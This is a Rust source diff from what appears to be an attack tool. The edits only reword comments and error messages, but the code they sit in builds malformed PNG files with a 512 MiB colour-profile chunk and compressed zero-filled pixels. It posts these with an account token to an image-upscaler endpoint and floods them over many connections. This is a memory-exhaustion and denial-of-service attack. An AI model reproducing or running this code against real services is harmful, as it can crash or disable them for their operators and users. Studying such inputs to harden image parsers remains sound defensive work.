@@ -22,7 +22,7 @@ const PIXEL_BYTES: u64 = 8;
 /// Bytes of the colour profile.
 const PROFILE_BYTES: u64 = 512 << 20;
 
-/// Colour type and depth of a header: 16 bits with alpha, and 8 bits without.
+/// Bit depth and colour type of a header: 16 bits with alpha, and 8 bits without.
 const DEEP: [u8; 2] = [16, 6];
 const PLAIN: [u8; 2] = [8, 2];
 
@@ -37,14 +37,14 @@ pub fn profiles(target: &Rc<AttackTarget>) {
     submit(target, UPSCALER, &png(8, PLAIN, Some(&profile), &deflated_zeros(8 * (1 + 8 * 3))));
 }
 
-/// Submits the file repeatedly.
+/// Submits the picture repeatedly.
 fn submit(target: &Rc<AttackTarget>, path: &str, file: &[u8]) {
     let body = json!({"image": STANDARD.encode(file)}).to_string();
     let bytes: Rc<[u8]> = request("POST", path, &target.account.token, &body).into();
     flood(target, CONNECTIONS, move |_| bytes.clone());
 }
 
-/// PNG file. `profile` is the content of its chunk `iCCP`.
+/// Returns a PNG file with the compressed `pixels`. `profile` is the content of its chunk `iCCP`.
 fn png(side: u32, [depth, colours]: [u8; 2], profile: Option<&[u8]>, pixels: &[u8]) -> Vec<u8> {
     let head = [&side.to_be_bytes()[..], &side.to_be_bytes(), &[depth, colours, 0, 0, 0]].concat();
     let mut file = b"\x89PNG\r\n\x1a\n".to_vec();
@@ -65,7 +65,7 @@ fn chunk(name: [u8; 4], content: &[u8]) -> Vec<u8> {
 
 fn deflated_zeros(count: u64) -> Vec<u8> {
     let mut encoder = ZlibEncoder::new(Vec::new(), Compression::best());
-    std::io::copy(&mut std::io::repeat(0).take(count), &mut encoder).expect("memory takes it");
-    encoder.flush().expect("memory takes it");
-    encoder.finish().expect("memory takes it")
+    std::io::copy(&mut std::io::repeat(0).take(count), &mut encoder).expect("writing to memory succeeds");
+    encoder.flush().expect("writing to memory succeeds");
+    encoder.finish().expect("writing to memory succeeds")
 }
